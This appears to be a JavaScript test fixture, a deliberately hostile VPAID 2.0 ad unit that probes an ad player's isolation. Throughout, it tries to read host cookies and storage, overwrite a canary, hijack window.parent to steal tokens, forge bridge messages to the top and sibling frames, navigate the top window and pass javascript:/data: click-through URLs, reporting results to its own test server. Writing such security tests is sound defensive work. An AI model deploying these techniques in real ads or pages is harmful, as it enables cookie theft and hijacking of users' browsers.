/*
 * vpaid-hostile.js is a hostile VPAID 2.0 unit for availkit's security tests.
 * It behaves just well enough to be started (AdLoaded, AdStarted,
 * AdImpression, then AdStopped after about a second) and meanwhile tries to
 * reach the host page: read or overwrite window.canary, the host's cookies and
 * localStorage, navigate the top window, steal the bridge's session token,
 * post forged bridge messages to the host and to every sibling frame, and hand
 * the player javascript:/data: click-through URLs with playerHandles=true.
 *
 * Whatever it learns is reported to /beacon/hostile/<attempt>?value=… on the
 * server it was loaded from (the emulator's collector files it under session
 * "hostile": GET /debug/sessions/hostile/beacons), so a test can assert the
 * host's canary never leaves the host page. It never fires AdVideoComplete itself: one arriving at
 * the host can only be a forged message that got through.
 */
(function () {
  'use strict';
  var scriptURL = (document.currentScript && document.currentScript.src) || location.href;
  var report = function (what, value) {
    try {
      var u = new URL('/beacon/hostile/' + encodeURIComponent(what), scriptURL);
      u.searchParams.set('value', String(value).slice(0, 200));
      new Image().src = u.href;
    } catch (e) { /* nowhere to report */ }
  };
  var attempt = function (what, fn) {
    try { report(what, 'got:' + fn()); } catch (e) { report(what, 'blocked:' + (e && e.name)); }
  };

  // Sniff every message this frame receives, hoping one carries the token.
  window.addEventListener('message', function (ev) {
    try { report('sniffed', JSON.stringify(ev.data)); } catch (e) { /* uncloneable */ }
  });
  // Try to get in between the bridge and the host.
  attempt('hijack-parent', function () {
    Object.defineProperty(window, 'parent', { configurable: true, value: {
      postMessage: function (m) { report('stolen', JSON.stringify(m)); }
    } });
    return 'replaced';
  });

  var forge = function (target, token) {
    var kinds = [
      { ak: 'vpaid', type: 'event', token: token, name: 'AdVideoComplete', args: [] },
      { ak: 'vpaid', type: 'event', token: token, name: 'AdClickThru', args: ['javascript:parent.canary="pwned"', 'x', true] },
      { ak: 'vpaid', type: 'event', token: token, name: 'AdStopped', args: [] },
      { ak: 'vpaid', type: 'hello' },
      { ak: 'vpaid', type: 'loaded', token: token, version: '2.0.0' },
      { type: 'companion-click', url: 'javascript:alert(1)' }
    ];
    kinds.forEach(function (m) { try { target.postMessage(m, '*'); } catch (e) { /* ignore */ } });
  };

  var attack = function () {
    var top = window.top;
    attempt('parent-canary', function () { return window.top.canary; });
    attempt('parent-cookie', function () { return top.document.cookie; });
    attempt('parent-storage', function () { return top.localStorage.getItem('canary'); });
    attempt('parent-dom', function () { return top.document.body.innerHTML.length; });
    attempt('write-canary', function () { top.canary = 'pwned'; return top.canary; });
    attempt('own-cookie', function () { return document.cookie; });
    attempt('own-storage', function () { return localStorage.getItem('canary'); });
    attempt('frame-element', function () { return window.frameElement; });
    attempt('popup-js', function () { return window.open('javascript:opener.top.canary="pwned"'); });
    attempt('top-nav', function () { top.location.href = new URL('/pwned', scriptURL).href; return 'navigated?'; });
    attempt('top-replace', function () { top.location.replace(new URL('/pwned', scriptURL).href); return 'replaced?'; });
    ['', 'guess', '00000000-0000-0000-0000-000000000000', String(location.hash).slice(1)].forEach(function (t) {
      forge(top, t);
    });
    attempt('siblings', function () {
      for (var i = 0; i < top.frames.length; i++) forge(top.frames[i], 'guess');
      return top.frames.length;
    });
  };

  var subs = {};
  var emit = function (name) {
    var args = Array.prototype.slice.call(arguments, 1);
    (subs[name] || []).forEach(function (s) {
      setTimeout(function () { try { s.fn.apply(s.scope, args); } catch (e) { /* ignore */ } }, 0);
    });
  };
  var stopped = false;
  var stop = function () { if (!stopped) { stopped = true; emit('AdStopped'); } };
  var noop = function () {};
  var ad = {
    handshakeVersion: function () { attack(); return '2.0.0'; },
    initAd: function (w, h, mode, rate, creativeData, env) {
      attempt('slot-owner', function () { return env.slot.ownerDocument.defaultView === window.top; });
      emit('AdLoaded');
    },
    startAd: function () {
      emit('AdStarted');
      emit('AdImpression');
      attack();
      emit('AdClickThru', 'javascript:top.canary="pwned"', 'hostile', true);
      emit('AdClickThru', 'data:text/html,<script>opener.canary="pwned"<\/script>', 'hostile', true);
      setTimeout(stop, 1000);
    },
    stopAd: stop, skipAd: stop, resizeAd: noop, pauseAd: noop, resumeAd: noop,
    expandAd: noop, collapseAd: noop,
    subscribe: function (fn, name, scope) { (subs[name] = subs[name] || []).push({ fn: fn, scope: scope }); },
    unsubscribe: noop,
    getAdLinear: function () { return true; },
    getAdRemainingTime: function () { return 1; },
    getAdDuration: function () { return 1; }
  };
  window.getVPAIDAd = function () { return ad; };
})();
